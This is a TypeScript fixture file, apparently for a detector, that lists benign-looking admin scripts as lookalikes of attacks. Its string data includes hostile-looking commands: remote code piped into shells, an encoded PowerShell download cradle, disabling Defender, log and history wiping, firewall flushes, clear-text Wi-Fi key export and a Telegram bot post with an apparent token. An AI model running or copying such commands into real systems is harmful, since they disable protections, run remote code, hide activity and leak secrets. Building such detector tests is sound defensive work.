// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells and forges
// Honest operation of machines: logon scripts, hardening, installers, build recipes, kiosks, lessons. Each does what an attack
// does, at a place or in a way that only an owner chooses; suspects/operations.ts has the attack beside it.
import { file, type Lookalike } from './lookalike.ts'

const lesson = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')", 'utf16le')

export const operations: readonly Lookalike[] = [
  file(
    'logon.bat',
    '@echo off\r\nnet use H: \\\\fs01\\home$\\%USERNAME% /persistent:no\r\nreg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Phone /t REG_SZ /d "C:\\Program Files\\Phone\\phone.exe /tray" /f >nul\r\nstart "" /min powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "\\\\corp.example\\NETLOGON\\inventory.ps1"\r\n',
  ),
  file(
    'client-health.ps1',
    "# Policy of an older scanner is taken back where it is still set\r\n$p = Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -ErrorAction SilentlyContinue\r\nif ($p.DisableAntiSpyware -eq 1) { Remove-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware }\r\nif ((Get-Service ccmexec).Status -ne 'Running') { Start-Service ccmexec; exit 1 }\r\nexit 0\r\n",
  ),
  file(
    'foyer.vbs',
    'Set sh = CreateObject("WScript.Shell")\r\nSet link = sh.CreateShortcut(sh.SpecialFolders("Startup") & "\\Foyer.lnk")\r\nlink.TargetPath = "C:\\Program Files\\Browser\\browser.exe"\r\nlink.Save\r\nsh.Run "powercfg /change monitor-timeout-ac 0", 0, True\r\nsh.Run "schtasks /create /tn Reboot /sc daily /st 05:00 /ru SYSTEM /tr ""shutdown /r /t 0"" /f", 0, True\r\n',
  ),
  file(
    'mitigations.reg',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\WINWORD.EXE]\r\n"MitigationOptions"=hex:00,01,00,00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"Print"="\\"C:\\\\Program Files\\\\Print\\\\client.exe\\" /min"\r\n',
  ),
  file(
    'harden-ssh.sh',
    "#!/bin/sh\nset -eu\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8yf0xJrVwK2b1Vn8ZC5l0QwGfD3mUe4sT7pRkXh2aB ops' >> /root/.ssh/authorized_keys\nsed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config\necho 'PasswordAuthentication no' >> /etc/ssh/sshd_config.d/ops.conf\nsystemctl restart ssh\niptables -F\niptables -A INPUT -i lo -j ACCEPT\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\niptables -P INPUT DROP\nhistory -c\n",
  ),
  file(
    'sinkhole.sh',
    '#!/usr/bin/env bash\nset -e\nif [[ "$0" == "bash" ]]; then exec curl -sSL https://raw.githubusercontent.com/sink/hole/master/install.sh | sudo bash "$@"; fi\ncat > /etc/cron.d/sinkhole <<\'CRON\'\n@reboot root /usr/sbin/logrotate /etc/sinkhole/logrotate\nCRON\ncurl -fsSL https://files.sinkhole.example/latest/resolver -o /usr/bin/resolver && chmod 0755 /usr/bin/resolver\nsystemctl enable --now resolver\n',
  ),
  file(
    'Dockerfile',
    "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nRUN curl -fsSL https://repo.vendor.example/setup.sh | bash -\nRUN wget -q -O /usr/local/bin/gosu https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64 && chmod +x /usr/local/bin/gosu && gosu nobody true\nRUN echo '@reboot root /app/rotate.sh >/dev/null 2>&1' > /etc/cron.d/rotate\nRUN echo 'Acquire::http::Proxy \"http://10.1.2.3:3128\";' > /etc/apt/apt.conf.d/proxy\n",
  ),
  file(
    'release.yml',
    'name: release\non: push\njobs:\n  build:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"\n          npm ci && npm run build\n      - run: curl -s -F document=@dist/latest.yml "https://api.telegram.org/bot${{ secrets.BOT }}/sendDocument?chat_id=-100123"\n',
  ),
  file(
    'nightly.sh',
    '#!/bin/bash\nKEY=/root/.ssh/id_backup\ntar -czf - /etc /home | openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.pass > /var/tmp/day.enc\nscp -q -i "$KEY" /var/tmp/day.enc backup@nas.lan:/volume1/\nssh -i "$KEY" backup@nas.lan "ls -t | tail -n +15 | xargs -r rm -f"\ncurl -s -X POST --data "{\\"text\\":\\"done on $(hostname)\\"}" https://hooks.chat.example/services/T0/B0\n',
  ),
  file(
    'lesson.ipynb',
    JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          source: [
            `import base64\nline = '${lesson.toString('base64')}'\nprint(base64.b64decode(line).decode('utf-16le'))\n`,
          ],
        },
        { cell_type: 'code', source: ["import subprocess\nprint(subprocess.run('strings /tmp/s.bin', shell=True))\n"] },
      ],
      metadata: { kernelspec: { language: 'python' } },
      nbformat: 4,
    }),
  ),
  file(
    'wifi.html',
    '<html><head><title>Hotel - Guest WiFi</title></head><body><form method="post" action="http://10.0.0.1:8002/index.php?zone=guest"><input name="user"><input type="password" name="room"><input type="submit"></form><script>document.forms[0].action="http://10.0.0.1:8002/index.php?zone=guest"</script></body></html>',
  ),
  file(
    'support.cmd',
    '@echo off\r\nset EXE=%TEMP%\\Support.exe\r\nbitsadmin /transfer s /download /priority foreground https://download.teamviewer.com/download/TeamViewerQS.exe "%EXE%" >nul\r\nif not exist "%EXE%" curl -sLo "%EXE%" https://download.teamviewer.com/download/TeamViewerQS.exe\r\nstart "" "%EXE%"\r\n',
  ),
  file(
    'fallback.js',
    'window.jQuery || document.write(unescape("%3Cscript src=\'js/libs/jquery-1.5.1.min.js\'%3E%3C/script%3E"));\n',
  ),
  file(
    'register-backup.cmd',
    '@echo off\r\nschtasks /create /tn "Backup" /tr "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Backup\\backup.ps1" /sc daily /st 22:00 /ru SYSTEM /rl HIGHEST /f\r\nicacls C:\\Backup /inheritance:r /grant:r SYSTEM:(OI)(CI)F\r\nattrib +h C:\\Backup\r\n',
  ),
  file(
    'baseline.sh',
    "#!/bin/bash\nsystemctl stop apparmor && aa-enforce /etc/apparmor.d/* && systemctl start apparmor\nchattr -i /etc/passwd /etc/shadow; chmod 640 /etc/shadow; chattr +i /etc/passwd /etc/shadow\niptables -F; iptables -X\niptables -A INPUT -p tcp --dport 22 -j ACCEPT; iptables -P INPUT DROP\ntruncate -s 0 /var/log/wtmp; rm -f /root/.bash_history\necho '0 5 * * * root /usr/bin/aide --check | mail -s aide root' > /etc/cron.d/aide\n",
  ),
  file(
    'grid.bat',
    '@echo off\r\npowershell -WindowStyle Hidden -Command "Start-Process java -ArgumentList \'-jar hub.jar\'"\r\ncurl -s -o nul http://127.0.0.1:4444/status || exit /b 1\r\n',
  ),
  file(
    'address.sh',
    '#!/bin/sh\nIP=$(curl -s https://api.ipify.org)\n[ "$IP" = "$(cat /tmp/.last 2>/dev/null)" ] && exit 0\necho "$IP" > /tmp/.last\ncurl -s "https://www.duckdns.org/update?domains=home&token=11111111-2222&ip=$IP"\ncurl -s -X POST "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage" -d text="$IP"\n',
  ),
  file(
    'new-laptop.ps1',
    "irm https://aka.ms/install-powershell.ps1 | iex\nInvoke-WebRequest 'https://download.microsoft.com/wsl.msi' -OutFile $env:TEMP\\wsl.msi\nStart-Process msiexec \"/i $env:TEMP\\wsl.msi /qn\" -Wait\nRegister-ScheduledTask -TaskName ssh -Action (New-ScheduledTaskAction -Execute wsl.exe -Argument 'service ssh start') -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n",
  ),
  file(
    'wlan.ps1',
    '$d = "$PSScriptRoot\\wlan"; mkdir $d -Force | Out-Null\nnetsh wlan export profile key=clear folder="$d"\nGet-ChildItem $d\\*.xml | % { netsh wlan add profile filename="$($_.FullName)" user=all }\n',
  ),
  file(
    'exclusions.ps1',
    "foreach ($e in '.mdf', '.ldf') { Add-MpPreference -ExclusionExtension $e }\nAdd-MpPreference -ExclusionPath 'D:\\SQLDATA'\nSet-MpPreference -ScanScheduleDay 7 -DisableCatchupFullScan $true -ScanAvgCPULoadFactor 20\n",
  ),
  file(
    'mods.cmd',
    '@echo off\r\npowershell -NoP -C "Expand-Archive -Force \'%~dp0mods.zip\' \'%~dp0Data\'"\r\npowershell -NoP -C "$w=New-Object -ComObject WScript.Shell;$s=$w.CreateShortcut(\'game.lnk\');$s.TargetPath=\'%~dp0game.exe\';$s.Save()"\r\nstart "" "%~dp0game.exe" & (goto) 2>nul & del "%~f0"\r\n',
  ),
  file(
    'screen.sh',
    '#!/bin/bash\nwhile true; do\n  python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://127.0.0.1:8099/boot.py\').read())"\n  sleep 3\ndone\n',
  ),
  file(
    'service.pas',
    'Unit service;\nInterface\nFunction Call(const URL: String): String;\nImplementation\nFunction Call(const URL: String): String;\nBegin\n  If Signed then\n    Resp:=Client.ExecuteRequest(Method,URL,Req)\n  else\n    Resp:=Client.ExecuteSignedRequest(Method,URL,Req);\n  Set Result = Resp\nEnd;\nEnd.\n',
  ),
]
